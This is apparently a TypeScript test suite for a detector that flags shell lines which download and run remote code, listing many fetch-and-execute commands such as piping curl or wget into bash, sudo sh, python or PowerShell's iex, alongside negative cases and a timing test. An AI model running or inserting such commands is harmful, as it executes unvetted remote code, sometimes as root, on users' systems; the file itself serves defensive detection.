import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { runsWhatItFetches } from '../../src/audit/fetched-script.ts';

const RUN: readonly string[] = [
  'curl -s https://any.example/s.sh | bash',
  'curl https://any.example/s.sh | sudo VERSION=1 sh',
  'curl https://any.example/s.sh | /usr/bin/env bash -s -- --quiet',
  'curl -fsSL https://any.example/s.sh | sudo -E bash -',
  'curl https://any.example/s.sh | sudo -n -u root /usr/bin/env -i sh',
  'curl https://any.example/s.sh | tee log | sh',
  'wget -qO- https://any.example/s.py | python3 -',
  'bash <(curl -s https://any.example/s.sh)',
  'sh -c "$(curl -fsSL https://any.example/s.sh)"',
  'eval "$(wget -O - https://any.example/s.sh)"',
  '. <(curl https://any.example/s.sh)',
  'irm https://any.example/s.ps1 | iex',
  'curl -fsSLo /tmp/s https://any.example/s.sh && bash /tmp/s',
  'cd /tmp; wget -O s https://any.example/s; chmod +x s; ./s --stdio',
  'curl https://any.example/s.js > s.js && exec-log && node --no-warnings s.js',
];

const OTHER: readonly string[] = [
  'curl https://any.example/data | jq .name',
  'curl https://any.example/data | grep node-version',
  'bash run.sh "$(curl -s https://any.example/version)"',
  'curl -o data.json https://any.example/data && node serve.js',
  'curl -o s https://any.example/s; sha256sum -c s.sum && sh s',
  'exec ./server --url https://any.example/curl',
  'cat s | sh',
  'npm run curl-check',
];

suite('a line that runs what it fetches', () => {
  for (const line of RUN) test(line, () => assert.ok(runsWhatItFetches(line)));
});

suite('a line that does not', () => {
  for (const line of OTHER) test(line, () => assert.ok(!runsWhatItFetches(line)));
});

test('a line that is too long to be read runs what it fetches, whatever it ends with', () => {
  const blanks = ' '.repeat(8_000);
  assert.ok(runsWhatItFetches(`curl https://any.example/s.sh ${blanks}| sh`));
  assert.ok(!runsWhatItFetches(`echo ${blanks}| sh`));
});

test('a hostile line costs no time', () => {
  const started = performance.now();
  for (const piece of [
    '|a',
    '|sudo ',
    'sh -(',
    'curl|a=',
    'curl |sudo ',
    'curl $(curl ',
    'curl -o ',
    'curl sh -a ',
    '|sudo -a ',
    '|env -a -b ',
    '|sudo -u a -u b ',
    '|sudo -u -u ',
    'curl A=a ',
    '> a; a/',
  ])
    runsWhatItFetches(`curl ${piece.repeat(8_000)}`.slice(0, 8_000));
  assert.ok(performance.now() - started < 2_000);
});
